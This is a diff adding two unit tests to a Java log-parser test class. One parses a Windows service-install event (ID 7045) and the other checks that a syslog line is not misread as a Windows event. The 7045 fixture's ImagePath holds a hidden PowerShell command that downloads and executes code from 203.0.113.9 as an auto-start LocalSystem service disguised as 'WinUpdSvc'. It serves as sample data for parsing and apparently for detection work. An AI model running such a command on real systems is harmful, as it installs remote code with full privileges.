@@ -269,4 +269,25 @@ class WindowsLinesTest {
     parsed(LogSource.POWERSHELL, line).has("EventID", "400")
         .has("HostApplication", "powershell.exe -ExecutionPolicy Bypass -File C:\\ops\\inventory.ps1");
   }
+
+  @Test
+  void serviceInstalledOnTheSystemChannel() {
+    String line = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+        + "<Provider Name='Service Control Manager' EventSourceName='Service Control Manager'/>"
+        + "<EventID Qualifiers='16384'>7045</EventID><Channel>System</Channel><Computer>FS02.corp.example</Computer>"
+        + "</System><EventData><Data Name='ServiceName'>WinUpdSvc</Data><Data Name='ImagePath'>%COMSPEC% /c "
+        + "powershell -nop -w hidden -c IEX(iwr http://203.0.113.9/s)</Data><Data Name='ServiceType'>user mode "
+        + "service</Data><Data Name='StartType'>auto start</Data><Data Name='AccountName'>LocalSystem</Data>"
+        + "</EventData></Event>";
+    parsed(LogSource.AUTO, line).is(LogSource.WINDOWS_SYSTEM, LogFormat.XML).has("EventID", "7045")
+        .has("Provider", "Service Control Manager").has("ServiceName", "WinUpdSvc")
+        .has("ImagePath", "%COMSPEC% /c powershell -nop -w hidden -c IEX(iwr http://203.0.113.9/s)")
+        .has("ServiceType", "user mode service").has("StartType", "auto start").has("AccountName", "LocalSystem");
+  }
+
+  @Test
+  void aSyslogLineWithLabelsIsNotTakenForWindows() {
+    parsed(LogSource.AUTO, "Mar  3 10:00:00 nas-1 smartd[77]: 1234 Device: /dev/sda Status: ok Port: 3")
+        .is(LogSource.LINUX_SYSLOG, LogFormat.SYSLOG).lacks("EventID");
+  }
 }
